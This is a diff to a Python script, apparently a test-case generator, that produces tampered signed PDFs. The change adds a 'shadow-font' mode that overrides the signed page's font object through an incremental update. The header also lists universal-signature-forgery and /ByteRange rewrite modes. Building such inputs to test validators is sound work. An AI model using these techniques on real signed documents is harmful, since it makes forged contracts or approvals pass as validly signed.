@@ -7,6 +7,8 @@
 #   shadow-replace  incremental update that replaces page 1's content stream (incremental saving / shadow replace)
 #   shadow-hide     incremental update adding a FreeText annotation over page 1 (shadow hide)
 #   form-value      incremental update changing a catalog entry (/OpenAction) after sealing
+#   shadow-font     incremental update overriding an object the signed page only references (its font), the
+#                   "replace" shadow attack through a resource rather than the content stream
 #   byterange       rewrite /ByteRange in place so it no longer encloses /Contents (same length, offsets kept)
 #   byterange-usf   rewrite /ByteRange in place to [0 0 0 0] (universal signature forgery)
 #   contents-moved  incremental update redefining the signature dictionary with its /Contents value outside
@@ -103,6 +105,14 @@ def main():
         else:
             pdict = pdict[:-2] + b" /Annots [%d 0 R] >>" % annot_id
         data = append_update(data, src, {page: pdict, annot_id: annot})
+    elif mode == "shadow-font":
+        page, _ = page1(src)
+        res = re.search(r"/Resources (\d+) 0 R", qpdf_obj(src, str(page)))
+        res_text = qpdf_obj(src, res.group(1)) if res else qpdf_obj(src, str(page))
+        font = int(re.search(r"/Font << /[^ ]+ (\d+) 0 R", res_text).group(1))
+        fdict = qpdf_obj(src, str(font)).encode("latin-1")
+        fdict = re.sub(rb"/BaseFont /[^ /]+", b"/BaseFont /Courier", fdict, count=1)
+        data = append_update(data, src, {font: fdict})
     elif mode == "form-value":
         trailer = qpdf_obj(src, "trailer")
         root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
